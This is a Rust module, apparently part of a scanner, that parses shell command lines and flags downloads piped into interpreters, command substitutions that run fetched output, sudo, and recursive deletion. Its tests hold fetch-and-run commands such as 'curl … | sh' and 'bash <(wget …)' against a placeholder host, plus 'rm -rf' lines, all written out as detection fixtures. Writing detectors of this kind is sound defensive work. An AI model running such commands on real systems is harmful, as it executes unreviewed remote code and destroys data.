//! Shell command lines (`sh -c '…'`, `npx -c '…'`) read for dangerous patterns: pipes
//! into an interpreter, downloads that are run, and what [`super::findings`] looks for in
//! each simple command.

use std::path::Path;

use super::findings::{
    FETCHERS, Finding, PRIVILEGE, Severity, base_name, is_code_runner, push, word_findings,
};

/// Findings about a shell command line (`sh -c '…'`, `npx -c '…'`): pipes into an
/// interpreter, downloads that are run, privilege, `rm -r`, sensitive paths.
pub(crate) fn shell_findings(code: &str, home: Option<&Path>, out: &mut Vec<Finding>) {
    let segments = shell_segments(code);
    let mut fetched_before = false;
    for (i, (piped, words)) in segments.iter().enumerate() {
        let Some(first) = words.first() else { continue };
        let name = base_name(first);
        // `sudo sh`: look at what sudo runs too.
        let runs = if PRIVILEGE.contains(&name) {
            words
                .iter()
                .skip(1)
                .find(|w| !w.starts_with('-'))
                .map_or(name, |w| base_name(w))
        } else {
            name
        };
        if *piped && is_code_runner(runs) {
            if fetched_before {
                push(
                    out,
                    Severity::Danger,
                    format!("downloads code and runs it unseen (`… | {runs}`)"),
                );
            } else {
                push(
                    out,
                    Severity::Danger,
                    format!("pipes into an interpreter (`… | {runs}`)"),
                );
            }
        }
        if !*piped || i == 0 {
            fetched_before = false;
        }
        if FETCHERS.contains(&name) {
            fetched_before = true;
        }
        word_findings(words, home, out);
    }
    if let Some(sub) = substituted_fetch(code) {
        push(
            out,
            Severity::Danger,
            format!("runs the output of a download (`$({sub} …)`)"),
        );
    }
}

/// A command substitution that fetches (`sh -c "$(curl …)"`, `bash <(wget …)`).
fn substituted_fetch(code: &str) -> Option<&'static str> {
    for open in ["$(", "<(", "`"] {
        for (at, _) in code.match_indices(open) {
            let inner = code[at + open.len()..].trim_start();
            let word = inner
                .split(|c: char| c.is_whitespace() || c == ')' || c == '`')
                .next()
                .unwrap_or("");
            if let Some(f) = FETCHERS.iter().find(|f| **f == base_name(word)) {
                return Some(f);
            }
        }
    }
    None
}

/// Splits a command line into simple commands: (whether it reads the previous one's
/// output through `|`, its words with quotes removed). Rough by design: it looks for
/// patterns, it does not run anything.
pub(crate) fn shell_segments(code: &str) -> Vec<(bool, Vec<String>)> {
    let mut segments = Vec::new();
    let mut words = Vec::new();
    let mut word = String::new();
    let mut piped = false;
    let mut quote: Option<char> = None;
    let mut chars = code.chars().peekable();
    let flush_word = |word: &mut String, words: &mut Vec<String>| {
        if !word.is_empty() {
            words.push(std::mem::take(word));
        }
    };
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => word.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (None, '\\') => {
                if let Some(next) = chars.next() {
                    word.push(next);
                }
            }
            (None, '|' | ';' | '&' | '\n' | '(' | ')') => {
                flush_word(&mut word, &mut words);
                let doubled = matches!(c, '|' | '&') && chars.peek() == Some(&c);
                if doubled {
                    chars.next();
                }
                if !words.is_empty() {
                    segments.push((piped, std::mem::take(&mut words)));
                }
                piped = c == '|' && !doubled;
            }
            (None, c) if c.is_whitespace() => flush_word(&mut word, &mut words),
            (None, c) => word.push(c),
        }
    }
    flush_word(&mut word, &mut words);
    if !words.is_empty() {
        segments.push((piped, words));
    }
    segments
}

#[cfg(test)]
mod tests {
    use super::super::testing::has;
    use super::*;

    const HOME: &str = "/home/alice";

    fn shell(code: &str) -> Vec<Finding> {
        let mut out = Vec::new();
        shell_findings(code, Some(Path::new(HOME)), &mut out);
        out
    }

    #[test]
    fn curl_piped_into_a_shell_is_a_download_run_unseen() {
        for code in [
            "curl -fsSL https://x.example/install.sh | sh",
            "wget -qO- https://x.example/i | sudo bash",
            "curl https://x.example/i|python3",
        ] {
            let f = shell(code);
            assert!(
                has(&f, Severity::Danger, "downloads code and runs it"),
                "{code}: {f:?}"
            );
        }
        let f = shell("cat server.py | python3");
        assert!(
            has(&f, Severity::Danger, "pipes into an interpreter"),
            "{f:?}"
        );
    }

    #[test]
    fn substituted_downloads_are_found() {
        assert!(has(
            &shell("bash -c \"$(curl -fsSL https://x.example/i)\""),
            Severity::Danger,
            "output of a download"
        ));
        assert!(has(
            &shell("bash <(wget -qO- https://x.example/i)"),
            Severity::Danger,
            "output of a download"
        ));
    }

    #[test]
    fn a_pipe_after_a_separate_command_is_still_a_pipe() {
        let f = shell("echo ok; grep x file | sort");
        assert!(f.is_empty(), "{f:?}");
        let f = shell("curl -o x https://x.example; cat x | sh");
        assert!(
            has(&f, Severity::Danger, "pipes into an interpreter"),
            "{f:?}"
        );
    }

    #[test]
    fn recursive_deletion_in_a_command_line_is_dangerous() {
        assert!(has(
            &shell("rm -rf /tmp/x && node s.js"),
            Severity::Danger,
            "rm -r"
        ));
        assert!(has(&shell("rm -fr build"), Severity::Danger, "rm -r"));
        assert!(has(
            &shell("rm --recursive build"),
            Severity::Danger,
            "rm -r"
        ));
        assert!(shell("rm -f build/x").is_empty());
    }
}
